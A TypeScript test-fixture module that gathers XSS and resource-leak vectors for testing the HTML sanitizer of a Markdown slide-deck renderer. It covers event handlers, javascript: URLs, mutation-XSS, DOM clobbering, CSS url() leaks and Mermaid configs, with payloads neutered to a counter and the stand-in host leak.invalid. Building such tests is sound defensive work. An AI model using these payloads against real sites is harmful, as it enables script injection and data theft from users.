import { readFileSync } from "node:fs";
import { z } from "zod";

const published = ["dompurify", "h5sc", "http-leaks", "xss-payload-list"] as const;
const fileSchema = z.object({ source: z.string(), licence: z.string(), vectors: z.array(z.string()).min(20) });

/** Published vectors by the name of their list (tests/fixtures/deck/hostile), and ours by what they try. */
export function hostileVectors(): ReadonlyMap<string, readonly string[]> {
  const lists = published.map((name) => {
    const { vectors } = fileSchema.parse(JSON.parse(readFileSync(`tests/fixtures/deck/hostile/${name}.json`, "utf8")));
    return [name, vectors] as const;
  });
  return new Map<string, readonly string[]>([...lists, ...Object.entries(ownVectors)]);
}

/** What runs or fetches sets the counter or asks `leak.invalid`, so that a browser test sees it. */
const run = "window.executed=1+(window.executed||0)";
const leak = "https://leak.invalid/";

const ownVectors: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    `<script>${run}</script>`,
    `<script src="${leak}a.js"></script>`,
    `<img src=x onerror="${run}">`,
    `<img src=x ONERROR='${run}'>`,
    `<img/src=x/onerror=${run}>`,
    `<details open ontoggle="${run}"><summary>x</summary></details>`,
    `<video autoplay onloadstart="${run}"><source src=x onerror="${run}"></video>`,
    `<p onpointerenter="${run}" style="animation:x 1s" onanimationstart="${run}">x</p>`,
    `<input autofocus onfocus="${run}">`,
    `<body onload="${run}">`,
    `<a href="#x" onfocus="${run}" autofocus>x</a>`,
  ],
  addresses: [
    `[a](javascript:${run})`,
    `<a href="javascript:${run}">x</a>`,
    `<a href="jav&#x09;ascript:${run}">x</a>`,
    `<a href="java&Tab;script&colon;${run}">x</a>`,
    `<a href=" \u0001javascript:${run}">x</a>`,
    `<a href="\u00a0javascript:${run}">x</a>`,
    `<a href="JaVaScRiPt:${run}">x</a>`,
    `<a href="vbscript:x">x</a>`,
    `<a href="data:text/html,<script>${run}</script>">x</a>`,
    `<a href="blob:https://leak.invalid/1">x</a>`,
    `<img src="data:image/svg+xml,<svg onload='${run}'>">`,
    `![](data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="${leak}r"/></svg>`)})`,
    `<img src="#x">`,
    `<img src="" srcset="${leak}a 1x">`,
    `<picture><source srcset="${leak}b"><img alt=""></picture>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.executed=1</script>"></iframe>`,
    `<iframe src="https://www.youtube.com.leak.invalid/embed/x"></iframe>`,
    `<iframe src="https://www.youtube.com@leak.invalid/"></iframe>`,
    `<embed src="${leak}c"><object data="${leak}d"><param name=movie value="${leak}e"></object>`,
    `<table background="${leak}f"><td background="${leak}g">x</td></table>`,
    `<img usemap="#m"><map name=m><area href="javascript:${run}" shape=default ping="${leak}h"></map>`,
    `<a ping="${leak}i" href="https://example.invalid/" download attributionsrc="${leak}">x</a>`,
    `<blockquote cite="javascript:${run}">x</blockquote>`,
    `<form action="${leak}j"><button formaction="javascript:${run}">x</button></form>`,
    `<link rel=stylesheet href="${leak}k"><link rel=preconnect href="${leak}"><base href="${leak}"><meta http-equiv=refresh content="0;url=${leak}l">`,
    `<script type=speculationrules>{"prefetch":[{"urls":["${leak}m"]}]}</script>`,
    `<portal src="${leak}n"></portal><fencedframe src="${leak}o"></fencedframe>`,
  ],
  mutation: [
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><p title="</template><img src=x onerror=${run}>"></template>`,
    `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
    `<title><p title="</title><img src=x onerror=${run}>">`,
    `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
    `<iframe><p title="</iframe><img src=x onerror=${run}>"></iframe>`,
    `<style scoped><p title="</style><img src=x onerror=${run}>"></style>`,
    `<style scoped>.a{content:"</style><img src=x onerror=${run}>"}</style>`,
    `<svg><style><!--</style><img src=x onerror=${run}>--></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.executed=1</script>"></iframe></foreignObject></svg>`,
    `<svg><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></svg>`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
    `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a><animate attributeName=href values="javascript:${run}"/></svg>`,
    `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/><image href="${leak}p"/><set attributeName=onload to="${run}"/></svg>`,
    `<table><tr><td><table><a><td><a>x</table><svg><tr><style><img src=x onerror=${run}></style>`,
    `<select><option><style></option></select><img src=x onerror=${run}></style>`,
    `<a><table><a><b><p><i><table><a><b>`,
    `<h1><foo><h2><foo><h3>x`,
    `<b><i><u><s><b><i><u><s><p>x</b></i></u></s>`,
    `<foo><table><foo><caption><foo><tr><foo>x`,
    `<p><foo><table><p><li><dd>x`,
    `<!--><img src=x onerror=${run}>-->`,
    `<!--->`,
    `<!-- --!><img src=x onerror=${run}> -->`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<?php <img src=x onerror=${run}> ?>`,
    `</p></div></section></main><img src=x onerror=${run}>`,
    `<p title='"><img src=x onerror=${run}>'>x</p>`,
    `<p title="<style>@import url(${leak}q);</style>">x</p>`,
    `<p title="<img src=&quot;data:x-left-out,&quot;>">x</p>`,
    `\u0000<scr\u0000ipt>${run}</script><p title="\u00000\u0000">x</p>`,
  ],
  clobbering: [
    `<img name=body><img name=cookie><form name=getElementById><input name=attributes></form>`,
    `<a id=stage-notes href="javascript:${run}">x</a><a id=location name=x>x</a>`,
    `<p id=toString>x</p><p id=__proto__>x</p><p id=constructor>x</p>`,
    `# Stage notes`,
    `# executed`,
    `<section class="slide" id="x"><div class="frame stage deck">x</div></section>`,
    `<div class="stage-controls stage-help slide-background" role="dialog" aria-label="Save state">x</div>`,
    `<p id="a b" aria-labelledby="root" slot="x" part="y" is="z-z" popover contenteditable tabindex=1 accesskey=x>x</p>`,
    `<iframe name=parent src="https://www.youtube.com/embed/x"></iframe>`,
  ],
  css: [
    `<style>@import url(${leak}1);@import "${leak}2";</style>`,
    `<style>@font-face{font-family:x;src:url(${leak}3)}.slide{font-family:x}</style>`,
    `<style>:host{background:url(${leak}4)} :host-context(body){color:red} html{position:fixed}</style>`,
    `<style>a[href^="h"]{--x:url(${leak}5);background:var(--x)}</style>`,
    `<style>p{background:image-set("${leak}6" 1x);background:-webkit-image-set(url(${leak}7) 1x)}</style>`,
    `<style>p{content:url(${leak}8);cursor:url(${leak}9),auto;filter:url(${leak}10#x);shape-outside:url(${leak}11)}</style>`,
    `<style>p{b\\61 ckground:url(${leak}12);background:u\\72l(${leak}13)}</style>`,
    `<style>p{-moz-binding:url(${leak}14);behavior:url(${leak}15);src:url(${leak}16)}</style>`,
    `<style>.a{& , body:has(&) .stage{display:none} &:not(&) *{color:red} :not(&){color:red}}</style>`,
    `<style>body\\2d x{color:red} bodyé{color:red} html|a{color:red} :is(body,.stage){display:none}</style>`,
    `<style>@keyframes x{@import url(${leak}17);from{position:fixed;background:url(${leak}18)}}</style>`,
    `<style>@layer{@import url(${leak}19)} @media all{body{position:fixed}} @supports (x:url(${leak}20)){p{color:red}}</style>`,
    `<style>@property --x{syntax:"<url>";inherits:true;initial-value:url(${leak}21)} @namespace url(${leak}22); @page{background:url(${leak}23)}</style>`,
    `<style>p{color:red}</style><style>}body{display:none}</style>`,
    `<style>p::after{content:"</style><script>${run}</script>"}</style>`,
    `<style scoped>p{background:url("${leak}</style>")}</style>`,
    `<p style="position:fixed;inset:0">x</p><p style="po\\73ition:fixed">x</p><p style="position:var(--x,fixed)">x</p>`,
    `<p style="background:url(${leak}24);background:url(javascript:${run});width:expression(${run})">x</p>`,
    `<p style="--x:url(${leak}25);width:999999999px;height:1e30px;z-index:2147483647;transform:scale(1e9)">x</p>`,
    `---\nstyle: "@import url(${leak}26); p{background:src('${leak}27')}"\nbackgroundImage: url(javascript:x)\n---\n`,
    `<!-- _backgroundImage: "url(${leak}28);position:fixed" -->\n<!-- _class: "stage deck\\" onload=x" -->`,
    `<p style="background:url(/api/auth/sign-out)">x</p><style>p{background:url(/api/me)}</style><style scoped>p{background:url(x.png)}</style>`,
    `![w:1px;position:fixed](x) ![bg blur:1px);position:fixed](x) ![bg left:33%;x](x)`,
  ],
  marks: [
    `<p data-l-code="x" data-l-math="block" data-l-pause data-l-footnote="x" data-l-title="<b>">\\href{javascript:${run}}{x}</p>`,
    `<img data-l-background="left" data-l-split="10%;position:fixed" data-l-size="1%;position:fixed" src="x.png">`,
    `<pre data-l-code='"><img src=x onerror=${run}>' data-l-steps="1|2" data-l-title="<img src=x onerror=${run}>"><code>x</code></pre>`,
    `<div data-step="1" data-active data-slide="9" data-over>x</div>`,
    '```"><img/src=x/onerror=' + run + ">\nx\n```",
    `::: "onclick=${run}\n:::\n\n::: {.a onclick=${run} style="position:fixed" width="1px;position:fixed"}\nx\n:::`,
    `$\\href{javascript:${run}}{x} \\htmlData{x=1}{y} \\url{javascript:${run}} \\includegraphics{${leak}29}$`,
    '```mermaid\ngraph TD; A["<img src=x onerror=' + run + '>"] --> B; click A "javascript:' + run + '"\n```',
    "```qr\njavascript:" + run + "\n```",
    "```chart\n<img src=x onerror=" + run + ">,1\n</svg><script>" + run + "</script>,2\n```",
    `[^x]\n\n[^x]: <img src=x onerror=${run}> [a](javascript:${run})`,
    `[a[^x]](https://example.invalid/)\n\n[^x]: note`,
    `---\nheader: "<img src=x onerror=${run}>"\nfooter: "</div></section><script>${run}</script>"\n---\n`,
    `---\ntitle: "</title><script>${run}</script>"\nlang: '"><script>${run}</script>'\nauthor: '"><script>${run}</script>'\n---\n`,
    `# <img src=x onerror=${run}> "quoted" </section>`,
    `<!-- note <img src=x onerror=${run}> <style scoped>p{color:red}</style> -->`,
    `???\n<script>${run}</script><img src=x onerror=${run}>`,
    `![<img src=x onerror=${run}>](x "<img src=x onerror=${run}>")`,
    `:::\n</div></div></section>\n:::`,
  ],
  diagrams: [
    '```mermaid\n%%{init: {"securityLevel":"loose","htmlLabels":true,"themeCSS":"*{background:url(' +
      leak +
      '30)}"}}%%\nflowchart LR\n  A["<img src=x onerror=' +
      run +
      '>"] --> B\n  click B call alert(1)\n```',
    "```mermaid\n---\nconfig:\n  securityLevel: loose\n---\nflowchart LR\n  A[\"<img src='" +
      leak +
      "31'><iframe src='" +
      leak +
      "32'></iframe><style>@import url(" +
      leak +
      '33)</style>"] --> B\n  style A fill:url(' +
      leak +
      "34)\n```",
    "```mermaid\nflowchart LR\n  A --> B\n  classDef x background:url(" + leak + '35)\n  class B x\n  click B href "javascript:' + run + '"\n```',
    "```mermaid\nsequenceDiagram\n  participant A\n  link A: x @ javascript:" + run + "\n  A->>A: <img src=" + leak + "36 onerror=" + run + ">\n```",
    "```mermaid\nclassDiagram\n  class A\n  A : <script>" + run + '</script>\n  link A "' + leak + '37"\n  callback A "alert"\n```',
  ],
};
